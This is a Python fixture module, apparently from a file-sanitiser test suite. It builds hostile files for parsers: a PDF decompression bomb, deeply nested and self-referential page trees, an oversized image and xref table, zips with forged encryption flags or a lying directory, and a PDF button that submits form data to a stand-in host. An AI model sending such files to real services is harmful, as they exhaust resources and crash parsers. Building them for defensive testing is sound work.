"""Files that nobody should take in, each small to make and hard to swallow."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

TRAILER = b"trailer << /Root 1 0 R >>\n%%EOF\n"


def a_page(document: pikepdf.Pdf) -> None:
    document.add_blank_page(page_size=(595, 842))


def built(change, *, pages: int = 1, **options) -> bytes:
    """A PDF with blank pages and whatever `change` does to it."""
    made = io.BytesIO()
    with pikepdf.new() as document:
        for _page in range(pages):
            a_page(document)
        change(document)
        document.save(made, **options)
    return made.getvalue()


def with_action(**action) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(**action)

    return built(change)


def with_xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=Stream(document, b"<xdp/>"))


def with_button(document: pikepdf.Pdf) -> None:
    act = Dictionary(S=Name.SubmitForm, F=String("http://bad.example"))
    button = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), A=act)
    document.pages[0].Annots = Array([document.make_indirect(button)])


def deep_page_tree(depth: int = 20_000) -> bytes:
    nodes = [
        b"%d 0 obj << /Type /Pages /Count 1 /Kids [%d 0 R] >> endobj\n" % (n, n + 1)
        for n in range(2, depth)
    ]
    root = b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    last = b"%d 0 obj << /Type /Page >> endobj\n" % depth
    return b"%PDF-1.4\n" + root + b"".join(nodes) + last + TRAILER


def nested_arrays(depth: int = 300_000) -> bytes:
    return b"%PDF-1.4\n1 0 obj " + b"[" * depth + b" endobj\n" + TRAILER


def page_tree_of_itself() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Count 1 /Kids [2 0 R] >> endobj\n" + TRAILER
    )


def stream_bomb(size: int = 300_000_000) -> bytes:
    """An object stream that unpacks to more than is ever unpacked."""
    packer, block = zlib.compressobj(1), b"0" * 1_000_000
    parts = [packer.compress(block) for _n in range(size // len(block))]
    packed = b"".join([*parts, packer.flush()])
    head = b"5 0 obj << /Type /ObjStm /N 1 /First 10 /Filter /FlateDecode /Length %d >>" % len(
        packed
    )
    return b"%PDF-1.5\n" + head + b" stream\n" + packed + b"\nendstream endobj\n" + TRAILER


def huge_image() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        image = Stream(document, b"\0" * 16)
        image.Type, image.Subtype = Name.XObject, Name.Image
        image.Width = image.Height = 100_000
        image.BitsPerComponent, image.ColorSpace = 8, Name.DeviceRGB
        page = document.pages[0]
        page.Resources = Dictionary(XObject=Dictionary(Im0=image))
        page.Contents = Stream(document, b"q 595 0 0 842 0 0 cm /Im0 Do Q")

    return built(change)


def huge_xref() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"xref\n0 4294967295\n0000000000 65535 f \n"
        b"trailer << /Size 4294967295 /Root 1 0 R >>\nstartxref\n50\n%%EOF\n"
    )


def locked() -> bytes:
    return built(lambda _document: None, encryption=pikepdf.Encryption(owner="a", user="b", R=6))


def a_zip(*names: str, is_locked: bool = False) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    content = bytearray(made.getvalue())
    if is_locked:
        for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = content.find(sign)
            content[at + place] |= 1
    return bytes(content)


def an_ole(*streams: str) -> bytes:
    names = b"".join(name.encode("utf-16-le").ljust(64, b"\0") for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + names.ljust(2048, b"\0")


def a_zip_with_a_lying_directory() -> bytes:
    whole = bytearray(a_zip("a.txt"))
    at = whole.rfind(b"PK\x05\x06")
    whole[at + 12 : at + 16] = struct.pack("<I", 2**31)
    return bytes(whole)


OOXML = "[Content_Types].xml", "word/document.xml"
